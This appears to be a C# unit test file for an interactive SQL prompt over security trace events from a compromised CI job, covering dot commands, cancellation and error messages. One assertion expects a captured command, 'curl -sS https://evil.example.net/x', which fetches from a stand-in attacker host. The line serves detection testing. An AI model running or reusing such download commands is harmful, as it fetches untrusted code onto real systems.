using System.Text;
using Ashiato.Query.Execution;
using Ashiato.Query.Interactive;
using Ashiato.Query.Output;

namespace Ashiato.Query.Tests;

[Trait("Category", "unit")]
public sealed class QueryPromptTests : IDisposable
{
    private readonly TestTrace _trace = new();

    private (string Output, TextLineSource Lines) Session(string input, IQueryInterrupts? interrupts = null)
    {
        using var session = Sql.Open(_trace.WriteJsonl("job.jsonl", TestTrace.CompromisedJob()));
        var lines = new TextLineSource(new StringReader(input));
        using var output = new MemoryStream();
        var messages = new StringWriter();
        new QueryPrompt(session, lines, output, messages, OutputFormat.Csv, interrupts).Run();
        return (messages + Encoding.UTF8.GetString(output.ToArray()), lines);
    }

    [Fact]
    public void Sql_may_span_lines_until_the_semicolon_and_goes_into_history()
    {
        var (output, lines) = Session("SELECT count(*) AS n\nFROM events\nWHERE type = 'dns_query';\n.quit\nSELECT 'not reached';\n");

        Assert.Contains("18 events loaded", output);
        Assert.Contains("n\r\n2\r\n", output);
        Assert.DoesNotContain("not reached", output);
        Assert.Equal(["SELECT count(*) AS n\nFROM events\nWHERE type = 'dns_query';", ".quit"], lines.History);
    }

    [Fact]
    public void An_interrupt_stops_the_running_query_and_the_prompt_goes_on()
    {
        var (output, _) = Session("SELECT sum(i) FROM range(100000000000) t(i);\nSELECT 42 AS answer;\n", new InterruptAfter(TimeSpan.FromMilliseconds(300)));

        Assert.Contains("query cancelled", output);
        Assert.Contains("answer\r\n42\r\n", output);
    }

    /// <summary>Ctrl+C, pressed a while after each query starts.</summary>
    private sealed class InterruptAfter(TimeSpan delay) : IQueryInterrupts
    {
        public IDisposable CancelOnInterrupt(CancellationTokenSource query) => new Timer(_ =>
        {
            try
            {
                query.Cancel();
            }
            catch (ObjectDisposedException)
            {
                // That query had already ended.
            }
        }, null, delay, Timeout.InfiniteTimeSpan);
    }

    [Fact]
    public void Dot_commands_list_tables_schema_and_examples_and_switch_format()
    {
        var (output, _) = Session(".tables\n.schema net_connect\n.examples\n.format jsonl\nSELECT 7 AS seven;\n.format\n");

        Assert.Contains("events,base table", output);
        Assert.Contains("process_exec,view", output);
        Assert.Contains("net_connect,dst_port,INTEGER", output);
        Assert.Contains("runner-worker-memory", output);
        Assert.Contains("{\"seven\":7}", output);
        Assert.Contains("format: jsonl", output);
    }

    [Fact]
    public void Schema_of_events_lists_the_json_keys_per_type_and_examples_run()
    {
        var (output, _) = Session(".schema events\n.example curl-wget-executions\n");

        Assert.Contains("events,ts,TIMESTAMP WITH TIME ZONE", output);
        Assert.Contains("dns_query,\"[\"\"comm\"\",\"\"hostname\"\",\"\"pid\"\",\"\"timestamp\"\",\"\"type\"\"]\"", output);
        Assert.Contains("curl -sS https://evil.example.net/x", output);
    }

    [Fact]
    public void An_error_is_shown_with_its_position_and_the_prompt_goes_on()
    {
        var (output, _) = Session("SELECT nosuch FROM events;\nSELECT 1 AS one;\n.bogus\n");

        Assert.Contains("Binder Error: Referenced column \"nosuch\" not found", output);
        Assert.Contains("LINE 1: SELECT nosuch FROM events;\n               ^", output);
        Assert.Contains("one\r\n1\r\n", output);
        Assert.Contains("unknown command .bogus", output);
    }

    public void Dispose() => _trace.Dispose();
}
